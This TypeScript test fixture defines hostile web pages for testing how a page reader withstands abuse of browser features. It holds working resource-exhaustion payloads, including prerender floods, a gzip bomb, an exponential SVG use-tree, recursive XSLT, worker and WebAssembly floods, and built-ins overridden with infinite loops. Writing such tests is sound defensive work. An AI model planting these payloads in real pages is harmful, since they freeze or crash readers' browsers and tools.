import { articleSays, type HostileCase } from '../hostile-case.ts';
import { article, inWorker, scripted, shown } from './showing.ts';

const quick = (type: string, body: string) => (_: unknown, response: import('node:http').ServerResponse) =>
  void response.writeHead(200, { 'content-type': type, 'cache-control': 'no-store' }).end(body);
const tale = 'Tides rise and fall twice a day. '.repeat(20);

/** Pages that turn what browsers have learned of late, and seldom used corners of them, against who reads. */
export const platform: readonly HostileCase[] = [
  shown(
    'prerenders',
    'has fifty pages rendered before anybody goes there',
    article('').replace(
      '</main>',
      `</main><script type="speculationrules">${JSON.stringify({ prerender: [{ source: 'list', urls: Array.from({ length: 50 }, (_, index) => `/next${index}`), eagerness: 'immediate' }] })}</script>`,
    ),
    {
      says: articleSays,
      parts: { '*': article('const kept = []; setInterval(() => kept.push(new Uint8Array(1e7).fill(1)), 10)') },
    },
  ),
  scripted('imports', 'modules that import the next for ever', "import('./module0')", {
    parts: {
      '*': (request, response) => {
        const next = Number(/\d+/.exec(request.url ?? '')?.[0] ?? 0) + 1;
        response
          .writeHead(200, { 'content-type': 'text/javascript' })
          .end(`export const kept = new Uint8Array(1e6).fill(1); import('./module${next}');`);
      },
    },
  }),
  scripted(
    'elements-that-make-more',
    'an element that makes another of its kind when it is put in',
    "customElements.define('a-b', class extends HTMLElement { connectedCallback() { queueMicrotask(() => this.append(document.createElement('a-b'))) } }); document.body.append(document.createElement('a-b'));",
  ),
  scripted(
    'animations',
    'a hundred thousand animations',
    "for (let i = 0; i < 100000; i++) { const one = document.createElement('i'); document.body.append(one); one.animate([{ transform: 'none' }, { transform: 'rotate(1turn)' }], { duration: 100, iterations: Infinity }) }",
  ),
  scripted(
    'transitions',
    'one transition of the view after another',
    'const again = () => document.startViewTransition(() => document.body.append("x")).finished.finally(again); again(); again();',
  ),
  scripted(
    'shared-workers',
    'a hundred shared workers that take memory',
    `for (let i = 0; i < 100; i++) new SharedWorker(URL.createObjectURL(new Blob(['const kept = []; setInterval(() => kept.push(new Uint8Array(1e6).fill(1)), 10)//' + i], { type: 'text/javascript' })), 'w' + i);`,
  ),
  scripted(
    'variables',
    'custom properties that double twenty times over',
    [
      "const rules = ['--a0: url(data:,tide)']; for (let i = 1; i < 40; i++) rules.push('--a' + i + ': var(--a' + (i - 1) + ') var(--a' + (i - 1) + ')');",
      "document.body.style.cssText = rules.join(';') + ';background: var(--a39); --b: var(--a39)'; setInterval(() => getComputedStyle(document.body).getPropertyValue('--b'), 10);",
    ].join('\n'),
  ),
  shown(
    'uses',
    'a picture that uses itself a billion times',
    article('').replace(
      '</main>',
      `</main><svg width="500" height="500"><defs><g id="u0"><rect width="1" height="1"/></g>${Array.from({ length: 12 }, (_, level) => `<g id="u${level + 1}">${`<use href="#u${level}" x="1"/>`.repeat(10)}</g>`).join('')}</defs><use href="#u12"/></svg>`,
    ),
  ),
  scripted(
    'inflates',
    'unpacks a bomb by itself',
    `(async () => { const packed = await new Response(new Blob([new Uint8Array(5e7)]).stream().pipeThrough(new CompressionStream('gzip'))).blob(); const kept = []; for (;;) kept.push(await new Response(packed.stream().pipeThrough(new DecompressionStream('gzip'))).arrayBuffer()); })();`,
  ),
  scripted(
    'streams',
    'a stream without end that is read twice, by one reader only',
    `const [one, other] = new ReadableStream({ pull: (into) => into.enqueue(new Uint8Array(1e7).fill(1)) }).tee(); (async () => { const reader = one.getReader(); for (;;) await reader.read(); })();`,
  ),
  scripted(
    'records',
    'records a picture that moves',
    "const canvas = document.createElement('canvas'); canvas.width = canvas.height = 4000; const pen = canvas.getContext('2d'); setInterval(() => { pen.fillStyle = '#' + Math.random().toString(16).slice(2, 8); pen.fillRect(0, 0, 4000, 4000) }, 5); for (let i = 0; i < 8; i++) { const recorder = new MediaRecorder(canvas.captureStream(60)); recorder.ondataavailable = () => {}; recorder.start(10) }",
  ),
  scripted(
    'fonts',
    'twenty thousand fonts',
    "for (let i = 0; i < 20000; i++) { const font = new FontFace('f' + i, new Uint8Array(1e5).fill(i)); document.fonts.add(font); font.load().catch(() => {}) }",
  ),
  scripted(
    'sheets',
    'rules put into a sheet without end',
    'const sheet = new CSSStyleSheet(); document.adoptedStyleSheets = [sheet]; for (let i = 0; ; i++) sheet.insertRule(":is(.a" + i + ", .b" + i + "):has(> .c" + i + ") { color: red }");',
  ),
  scripted(
    'long-attribute',
    'an attribute of four hundred megabytes',
    "document.body.setAttribute('data-tide', 'tide'.repeat(1e8)); document.body.title = 'tide'.repeat(1e8);",
  ),
  scripted(
    'comments',
    'comments, instructions and attributes by the million',
    "for (let i = 0; i < 1e6; i++) { document.body.append(document.createComment('tide'.repeat(20))); document.body.setAttribute('a' + i, i) }",
  ),
  scripted(
    'long-addresses',
    'addresses of two million characters',
    "setInterval(() => history.pushState({}, '', '?' + Math.random() + 'x'.repeat(2e6)), 5); const a = document.createElement('a'); a.href = '/' + 'y'.repeat(1e7); a.textContent = 'On'; document.querySelector('main').append(a);",
  ),
  scripted(
    'tasks',
    'tasks of every kind without end',
    'const again = () => { scheduler.postTask(again); scheduler.postTask(again); requestIdleCallback(again) }; again();',
  ),
  scripted(
    'grows-when-seen',
    'adds a screen whenever its end is seen',
    "const end = document.createElement('p'); end.textContent = 'More'; document.body.append(end); new IntersectionObserver(() => { for (let i = 0; i < 200; i++) end.insertAdjacentHTML('beforebegin', '<p>' + 'tide '.repeat(50) + '</p>'); scrollTo(0, 1e9) }).observe(end); setInterval(() => scrollBy(0, 1e6), 1);",
  ),
  scripted(
    'resizes',
    'an observer that resizes what it observes',
    "const box = document.createElement('div'); document.body.append(box); new ResizeObserver(() => { box.style.height = Math.random() * 1000 + 'px' }).observe(box);",
  ),
  scripted(
    'locks',
    'locks and channels without end',
    "for (let i = 0; i < 50000; i++) { navigator.locks?.request('tide', () => new Promise(() => {})); new BroadcastChannel('c' + i) }",
  ),
  scripted(
    'compiles-large',
    'large modules of WebAssembly, one after another',
    `const head = [0,97,115,109,1,0,0,0,1,4,1,96,0,0,3]; const leb = (n) => { const out = []; do { out.push((n & 127) | (n > 127 ? 128 : 0)); n >>>= 7 } while (n); return out }; const count = 50000; const body = [2, 0, 11]; const functions = [...leb(count), ...new Array(count).fill(0)]; const code = [...leb(count)]; for (let i = 0; i < count; i++) code.push(...body); const bytes = new Uint8Array([...head, ...leb(functions.length), ...functions, 10, ...leb(code.length), ...code]); const kept = []; (async () => { for (;;) kept.push(await WebAssembly.compile(bytes)) })();`,
  ),
  scripted(
    'workers-that-wait',
    'workers that wait for ever in a call',
    `for (let i = 0; i < 200; i++) ${inWorker('Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0); for (;;) { try { new XMLHttpRequest().open("GET", "http://127.0.0.1:1/", false) } catch {} }')}`,
  ),
  shown(
    'transformed-for-ever',
    'a transformation of XML that calls itself',
    quick('text/xml', `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="/style.xsl"?><tide>${tale}</tide>`),
    {
      parts: {
        '/style.xsl': quick(
          'text/xsl',
          '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:call-template name="again"/></xsl:template><xsl:template name="again"><p>tide</p><xsl:call-template name="again"/><xsl:call-template name="again"/></xsl:template></xsl:stylesheet>',
        ),
      },
    },
  ),
  scripted(
    'speaks',
    'says a book aloud, buzzes, shares, and asks for the clipboard',
    "for (let i = 0; i < 5000; i++) { speechSynthesis?.speak(new SpeechSynthesisUtterance('tide '.repeat(1000))); navigator.vibrate?.(1000); navigator.share?.({ text: 'tide' }).catch(() => {}); navigator.clipboard?.readText().catch(() => {}) }",
  ),
  scripted(
    'selects',
    'selects, edits and undoes without end',
    "document.body.contentEditable = true; document.body.focus(); setInterval(() => { document.execCommand('selectAll'); document.execCommand('insertHTML', false, '<p>' + 'tide '.repeat(500) + '</p>'.repeat(3)); document.execCommand('undo') }, 0);",
  ),
  scripted(
    'languages',
    'has every language compare and format without end',
    "for (;;) for (const language of ['de', 'th', 'ja', 'ar']) { new Intl.Segmenter(language).segment('tide'.repeat(1e5)); new Intl.Collator(language).compare('a'.repeat(1e6), 'a'.repeat(1e6) + 'b'); 'ﷺ'.repeat(1e5).normalize('NFKD') }",
  ),
  scripted(
    'overrides',
    'puts its own functions in the place of those that a reader would call',
    "for (const [owner, name] of [[Array.prototype, 'push'], [Array.prototype, 'map'], [String.prototype, 'slice'], [JSON, 'stringify'], [Object, 'keys'], [Node.prototype, 'cloneNode'], [Document.prototype, 'querySelectorAll'], [Element.prototype, 'getAttribute'], [XMLSerializer.prototype, 'serializeToString'], [window, 'getComputedStyle'], [Promise.prototype, 'then'], [Map.prototype, 'get']]) owner[name] = () => { for (;;); }; Object.prototype.toJSON = () => { for (;;); }; Object.defineProperty(Object.prototype, 'value', { get: () => { for (;;); } });",
    { says: articleSays },
  ),
  scripted(
    'lies',
    'says that it is another document',
    "Object.defineProperty(document, 'documentElement', { get: () => null }); Object.defineProperty(document, 'readyState', { get: () => 'loading' }); Object.defineProperty(document, 'title', { get: () => 'x'.repeat(1e8) }); Object.defineProperty(window, 'location', { value: {}, configurable: true }); Object.defineProperty(Element.prototype, 'outerHTML', { get: () => 'y'.repeat(1e8) }); document.body.innerHTML += '';",
  ),
];
